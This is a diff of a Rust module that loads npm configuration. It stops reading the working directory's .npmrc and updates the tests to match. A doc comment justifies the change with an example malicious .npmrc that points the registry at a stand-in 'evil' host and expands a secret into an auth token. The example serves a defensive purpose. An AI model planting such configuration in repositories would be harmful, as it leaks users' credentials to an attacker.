@@ -1,8 +1,12 @@
 //! npm's configuration: which registry serves a package, with which credentials, and which CA file.
 //!
-//! admit names no registry itself. The order is npm's: flag, environment (`npm_config_…`), the project's `.npmrc`, the
-//! user's, the global one, and at last the default that the crate `deno_npmrc` carries. `strict-ssl=false` is not
-//! honoured: certificates are always checked.
+//! admit names no registry itself. The order is npm's: flag, environment (`npm_config_…`), the user's `.npmrc`, the global
+//! one, and at last the default that the crate `deno_npmrc` carries. `strict-ssl=false` is not honoured: certificates are
+//! always checked.
+//!
+//! The `.npmrc` of the working directory is **not** read, although npm reads it. `${NAME}` in it stands for a variable of
+//! the user's environment, so a cloned repository with `registry=https://evil/` and `//evil/:_authToken=${SECRET}` would
+//! be sent the secret by whoever builds in it; and no digest that anybody trusted covers that file.
 
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
@@ -22,8 +26,6 @@ pub struct Sources<'a> {
     pub env: BTreeMap<String, String>,
     /// The user's home directory, for `~/.npmrc`.
     pub home: Option<PathBuf>,
-    /// The directory whose `.npmrc` is the project's.
-    pub project: Option<PathBuf>,
 }
 
 /// The settings that admit uses, merged.
@@ -64,12 +66,10 @@ impl NpmConfig {
             .get("globalconfig")
             .map(PathBuf::from)
             .or_else(|| env.get("prefix").map(|p| Path::new(p).join("etc/npmrc")));
-        let project =
-            sources.project.as_ref().map(|p| p.join(".npmrc")).filter(|p| user.as_ref() != Some(p));
 
         // From the weakest to the strongest; later entries win.
         let mut settings = BTreeMap::new();
-        for file in [global, user, project].into_iter().flatten() {
+        for file in [global, user].into_iter().flatten() {
             settings.extend(read_file(&file, &sources.env)?);
         }
         settings.extend(env);
@@ -293,23 +293,23 @@ fn expand(text: &str, env: &BTreeMap<String, String>) -> String {
 mod tests {
     use super::*;
 
-    fn load(flag: Option<&str>, env: &[(&str, &str)], user: &str, project: &str) -> NpmConfig {
+    fn load(flag: Option<&str>, env: &[(&str, &str)], user: &str, global: &str) -> NpmConfig {
         let dir = tempfile::tempdir().unwrap();
-        let (home, work) = (dir.path().join("home"), dir.path().join("work"));
-        for (place, text) in [(&home, user), (&work, project)] {
-            std::fs::create_dir(place).unwrap();
-            std::fs::write(place.join(".npmrc"), text).unwrap();
-        }
-        let env = env.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect();
-        NpmConfig::load(&Sources { flag, env, home: Some(home), project: Some(work) }).unwrap()
+        let home = dir.path().to_path_buf();
+        std::fs::write(home.join(".npmrc"), user).unwrap();
+        std::fs::write(home.join("global"), global).unwrap();
+        let mut env: BTreeMap<String, String> =
+            env.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect();
+        env.insert("npm_config_globalconfig".into(), home.join("global").display().to_string());
+        NpmConfig::load(&Sources { flag, env, home: Some(home) }).unwrap()
     }
 
     #[test]
     fn the_strongest_source_wins() {
-        let (u, p) = ("registry=https://user.example/", "registry=https://project.example");
+        let (u, p) = ("registry=https://user.example/", "registry=https://global.example");
         let of = |c: NpmConfig| c.registry_for("x").to_string();
-        assert_eq!(of(load(None, &[], u, "")), "https://user.example/");
-        assert_eq!(of(load(None, &[], u, p)), "https://project.example/");
+        assert_eq!(of(load(None, &[], "", p)), "https://global.example/");
+        assert_eq!(of(load(None, &[], u, p)), "https://user.example/");
         let env = [("NPM_CONFIG_REGISTRY", "https://env.example/npm")];
         assert_eq!(of(load(None, &env, u, p)), "https://env.example/npm/");
         assert_eq!(of(load(Some("https://flag.example"), &env, u, p)), "https://flag.example/");
